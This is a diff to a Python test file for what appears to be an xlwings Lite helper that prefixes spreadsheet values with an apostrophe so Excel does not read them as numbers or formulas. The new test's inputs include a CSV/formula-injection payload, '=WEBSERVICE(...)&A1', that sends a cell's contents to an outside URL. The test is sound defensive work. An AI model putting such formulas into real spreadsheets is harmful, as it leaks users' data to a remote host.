@@ -16,6 +16,12 @@ def test_a_text_that_excel_would_take_for_a_number_is_typed_with_an_apostrophe(d
     assert as_typed(digest) == f"'{digest}"
 
 
+@pytest.mark.parametrize("name", ['=WEBSERVICE("https://example.com/"&A1)', "+A1", "-A1", "@SUM(A1)"])
+def test_a_name_that_excel_would_take_for_a_formula_is_typed_with_an_apostrophe(name: str) -> None:
+    """These four begin a formula: Microsoft's help on Range.values of Office.js, and on text that begins with @."""
+    assert as_typed(name) == f"'{name}"
+
+
 @pytest.mark.parametrize("value", ["dc0300eec5baa019", "0.1.0", "xlwings Lite", "", 2702, 46349.25, True, None])
 def test_anything_else_is_typed_as_it_is(value: CellValue) -> None:
     assert as_typed(value) is value
